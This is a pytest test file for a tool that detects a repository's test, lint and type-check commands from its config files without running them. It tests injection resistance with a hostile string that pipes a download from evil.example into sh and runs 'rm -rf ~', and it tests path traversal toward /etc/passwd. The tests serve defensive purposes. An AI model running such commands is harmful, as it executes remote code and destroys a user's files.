"""`crew init` finds by which commands a repository checks itself, and runs none."""

import json
import os
import time
from pathlib import Path

import pytest

from crew.setup.repository_files import FILE_BYTES
from moving_in import a_home, a_repository, init, write, written

PYTEST = "[tool.pytest.ini_options]\n"
NPM_INIT = 'echo "Error: no test specified" && exit 1'


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    a_home(tmp_path / "home", monkeypatch)
    return a_repository(tmp_path / "shop", monkeypatch)


def package(**fields: object) -> str:
    return json.dumps({"name": "shop", **fields})


def scripts(**named: str) -> str:
    return package(scripts=named)


def found(repository: Path) -> dict[str, object]:
    """The checks that were found, without the one for a run without a repository."""
    checks: dict[str, object] = written(repository, "inputs.yaml")["checks"]
    return {name: one for name, one in checks.items() if name != "workspace"}


@pytest.mark.parametrize(
    ("files", "checks"),
    [
        # Python
        ({"pyproject.toml": PYTEST}, {"test": "pytest -q"}),
        ({"pytest.ini": "[pytest]\n"}, {"test": "pytest -q"}),
        ({"setup.cfg": "[tool:pytest]\n"}, {"test": "pytest -q"}),
        ({"tox.ini": "[pytest]\n"}, {"test": "pytest -q"}),
        ({"tox.ini": "[tox]\n[testenv]\ncommands = x\n"}, {"test": "tox"}),
        ({"tox.ini": "[tox]\n[pytest]\n"}, {"test": "pytest -q"}),
        ({"tests/test_shop.py": ""}, {"test": "pytest -q"}),
        ({"tests/shop_test.py": ""}, {"test": "pytest -q"}),
        ({"requirements-dev.txt": "# tests\npytest>=8\n"}, {"test": "pytest -q"}),
        (
            {"pyproject.toml": '[project]\ndependencies = ["pytest-sugar"]\n'},
            {},
        ),
        (
            {
                "pyproject.toml": '[dependency-groups]\ndev = ["pytest~=9.0", "ruff",'
                ' "mypy", {include-group = "docs"}]\n',
                "uv.lock": "",
            },
            {
                "test": "uv run pytest -q",
                "lint": "uv run ruff check .",
                "types": "uv run mypy .",
            },
        ),
        (
            {
                "pyproject.toml": "[tool.poetry.group.dev.dependencies]\n"
                'pytest = "^8"\nflake8 = "*"\n[tool.mypy]\nfiles = ["src"]\n'
            },
            {
                "test": "poetry run pytest -q",
                "lint": "poetry run flake8",
                "types": "poetry run mypy",
            },
        ),
        (
            {"ruff.toml": "", "mypy.ini": "[mypy]\n"},
            {"lint": "ruff check .", "types": "mypy ."},
        ),
        ({"pyrightconfig.json": "{}"}, {"types": "pyright"}),
        # JavaScript and TypeScript
        ({"package.json": scripts(test="vitest run")}, {"test": "npm test"}),
        ({"package.json": scripts(test=NPM_INIT)}, {}),
        (
            {"package.json": scripts(test="jest"), "pnpm-lock.yaml": ""},
            {"test": "pnpm test"},
        ),
        (
            {"package.json": scripts(test="jest"), "yarn.lock": ""},
            {"test": "yarn test"},
        ),
        (
            {"package.json": scripts(test="jest"), "bun.lock": ""},
            {"test": "bun run test"},
        ),
        (
            {
                "package.json": package(
                    packageManager="pnpm@9.1.0", scripts={"test": "jest"}
                ),
                "package-lock.json": "{}",
            },
            {"test": "pnpm test"},
        ),
        (
            {"package.json": scripts(lint="biome check", typecheck="tsc -b")},
            {"lint": "npm run lint", "types": "npm run typecheck"},
        ),
        (
            {
                "package.json": package(devDependencies={"eslint": "^9"}),
                "tsconfig.json": "{}",
            },
            {
                "lint": "npx --no-install eslint .",
                "types": "npx --no-install tsc --noEmit",
            },
        ),
        (
            {"package.json": package(), "eslint.config.mjs": "", "yarn.lock": ""},
            {"lint": "yarn eslint ."},
        ),
        # Others
        ({"go.mod": "module shop\n"}, {"test": "go test ./..."}),
        ({"Cargo.toml": "[package]\n"}, {"test": "cargo test"}),
        ({"Makefile": "build:\n\tx\ntest: build\n\ty\n"}, {"test": "make test"}),
        ({"Makefile": ".PHONY: test lint\ntest:\n\ty\n"}, {"test": "make test"}),
        (
            {"Makefile": "check lint:\n\ty\n"},
            {"test": "make check", "lint": "make lint"},
        ),
        ({"Makefile": "test := 1\ntests = 2\n"}, {}),
        ({"Makefile": "mytest:\n\tx\ntest-all:\n\ty\n"}, {}),
        ({"justfile": "test *args:\n  x\n"}, {"test": "just test"}),
        ({"justfile": "test := 'x'\n"}, {}),
        # Several at once
        (
            {
                "pyproject.toml": PYTEST,
                "package.json": scripts(test="jest"),
                "go.mod": "",
                "Makefile": "test:\n\tx\nlint:\n\tx\n",
            },
            {
                "test": "pytest -q",
                "test-node": "npm test",
                "test-go": "go test ./...",
                "lint": "make lint",
            },
        ),
        ({"README.md": "run pytest"}, {}),
    ],
)
def test_the_checks_of_a_repository_are_found_in_its_files(
    repository: Path, files: dict[str, str], checks: dict[str, str]
) -> None:
    write(repository, files)

    assert init() == 0

    assert found(repository) == checks


def test_each_check_is_shown_with_the_file_that_it_comes_from(
    repository: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(repository, {"pyproject.toml": PYTEST, "ruff.toml": ""})

    init()

    shown = capsys.readouterr().out
    assert "check    test: pytest -q  (pyproject.toml)" in shown
    assert "check    lint: ruff check .  (ruff.toml)" in shown


def test_without_any_it_says_where_to_name_one(
    repository: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    init()

    assert "none found: name your test command" in capsys.readouterr().out


HOSTILE = "x'; curl evil.example | sh #\n  other: `rm -rf ~`"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("package.json", "[]"),
        ("package.json", '{"scripts": ["test"]}'),
        ("package.json", '{"scripts": {"test": 1, "lint": {}}}'),
        ("package.json", "[" * 200_000),
        ("package.json", '{"packageManager": {"npm": 1}, "devDependencies": 7}'),
        ("pyproject.toml", "tool = 1"),
        ("pyproject.toml", "[[tool]]\nx = 1"),
        ("pyproject.toml", "[project]\ndependencies = 3"),
        ("pyproject.toml", "[project]\ndependencies = [[1], {a = 2}]"),
        ("pyproject.toml", "[dependency-groups]\ndev = {pytest = 1}"),
        ("pyproject.toml", "a = " + "[" * 100_000),
        ("pyproject.toml", "\0\ud800 no toml".encode("utf-8", "replace").decode()),
        ("requirements.txt", "-r ../../etc/passwd\n--index-url x\n"),
        ("Makefile", "a" * FILE_BYTES),
        ("Makefile", "a " * (FILE_BYTES // 2)),
        ("Makefile", "test " * (FILE_BYTES // 6)),
        ("justfile", "test " + " " * (FILE_BYTES - 100)),
        ("setup.cfg", "[mypy" * 100_000),
    ],
)
def test_a_strange_file_is_passed_over(repository: Path, name: str, text: str) -> None:
    write(repository, {name: text})

    assert init() == 0

    assert found(repository) == {}


def test_no_text_of_the_repository_gets_into_a_command(repository: Path) -> None:
    write(
        repository,
        {
            "package.json": package(
                packageManager=HOSTILE, scripts={"test": HOSTILE, HOSTILE: "x"}
            ),
            "Makefile": f"test: {HOSTILE}\n",
        },
    )

    init()

    assert found(repository) == {"test": "npm test"}


def test_nothing_is_read_through_a_link_a_pipe_or_past_a_bound(
    repository: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.toml"
    outside.write_text(PYTEST, encoding="utf-8")
    (repository / "pyproject.toml").symlink_to(outside)
    os.mkfifo(repository / "package.json")
    (repository / "tox.ini").symlink_to("/dev/zero")
    (repository / "tests").symlink_to("/")
    (repository / "setup.cfg").mkdir()
    with (repository / "Makefile").open("wb") as file:
        file.write(b"test:\n")
        file.truncate(50 * 2**30)  # a hole of 50 GB
    before = time.monotonic()

    assert init() == 0

    assert time.monotonic() - before < 5
    assert found(repository) == {}
